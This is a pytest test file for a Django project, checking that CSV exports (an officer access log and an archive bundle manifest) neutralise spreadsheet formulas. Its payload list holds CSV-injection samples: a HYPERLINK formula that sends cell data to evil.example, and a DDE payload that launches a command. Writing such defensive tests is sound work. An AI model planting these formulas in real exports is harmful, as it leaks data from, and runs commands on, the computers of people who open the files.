"""No CSV the project writes can carry a spreadsheet formula (CSV injection)."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from officer_console.models import Membership
from pdfgen.bundle import MANIFEST_NAME, write_bundle
from project.csvexport import cell

from . import factories

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"열기")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_shown_as_text(payload):
    assert cell(payload) == "'" + payload
    assert cell("홍길동") == "홍길동" and cell(-5) == -5 and cell("2026-01-31") == "2026-01-31"


def test_an_unmask_reason_cannot_become_a_formula_in_the_access_log_export(client, office, submission):
    # Unmasking needs an officer membership, reading the access log a manager's (issue #21 point 12).
    manager = factories.officer(office, "manager", role="manager")
    Membership.objects.create(user=manager, office=office, role=Membership.Role.OFFICER)
    client.force_login(manager)
    for reason in PAYLOADS[:4]:
        client.post(reverse("officer_console:unmask", args=[submission.pk]), {"reason": reason})
    response = client.get(reverse("officer_console:access_log_csv", args=[office.pk]))
    reasons = [row[5] for row in _rows(response.content.decode("utf-8"))[1:] if row[3] == "unmask"]
    assert sorted(reasons) == sorted("'" + p for p in PAYLOADS[:4])
    assert not any(r.startswith(("=", "+", "-", "@")) for row in _rows(response.content.decode()) for r in row)


def test_the_archive_bundle_manifest_is_neutralised_too(submission, tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path
    template = submission.form_version.template
    template.title = '=HYPERLINK("http://evil.example","서식")'
    template.save()
    target = io.BytesIO()
    write_bundle(target, submission.service_date, submission.office_id)
    with zipfile.ZipFile(target) as bundle:
        rows = list(csv.DictReader(io.StringIO(bundle.read(MANIFEST_NAME).decode("utf-8-sig"))))
    assert rows[0]["form_title"] == "'" + template.title
